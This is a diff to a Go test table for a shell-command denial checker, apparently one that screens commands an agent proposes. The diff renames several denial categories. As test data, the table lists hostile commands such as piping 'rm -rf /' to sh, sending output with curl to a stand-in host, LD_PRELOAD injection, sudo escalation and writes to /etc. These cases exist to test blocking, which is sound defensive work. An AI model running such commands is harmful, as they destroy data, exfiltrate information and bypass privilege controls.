@@ -67,8 +67,8 @@ func TestTypedDenial(t *testing.T) {
 		retry            proposal.Retry
 		first            string // of the alternatives
 	}{
-		{"go test -exec ./x -run T ./...", "go.option", "-exec", proposal.RetryVary, ""},
-		{"sort --compress-program=sh -u x", "sort.program", "--compress-program=sh", proposal.RetryVary, ""},
+		{"go test -exec ./x -run T ./...", "code.program", "-exec", proposal.RetryVary, ""},
+		{"date --set=1 -u", "text.program", "--set=1", proposal.RetryVary, ""},
 		{"sudo go test ./...", "privilege.none", "sudo go test ./...", proposal.RetryNever, "go test ./..."},
 		{"\tsudo\tls", "privilege.none", "sudo", proposal.RetryNever, "ls"},
 		{"npm publish", "code.publish", "publish", proposal.RetryNever, ""},
@@ -79,7 +79,7 @@ func TestTypedDenial(t *testing.T) {
 		{"echo 'rm -rf /' | sh", "parse.shell-stdin", "sh", proposal.RetryVary, ""},
 		{"source venv/x.sh", "parse.source", "source", proposal.RetryVary, "bash venv/x.sh"},
 		{"echo hi > /etc/x", "redirect.place", "/etc/x", proposal.RetryVary, ""},
-		{"cd pkg&&go test -exec=./x|tail -3", "go.option", "-exec=./x", proposal.RetryVary, ""},
+		{"cd pkg&&go test -exec=./x|tail -3", "code.program", "-exec=./x", proposal.RetryVary, ""},
 		{"go vet ./... | curl -d @- x.example", "network.client", "curl -d @- x.example", proposal.RetryVary, ""},
 		{"LD_PRELOAD=./x go test ./...", "env.steering", "LD_PRELOAD", proposal.RetryVary, ""},
 		{"cat a | /opt/bin/grep x", "default.no-rule", "/opt/bin/grep x", proposal.RetryVary, "cat a | grep x"},
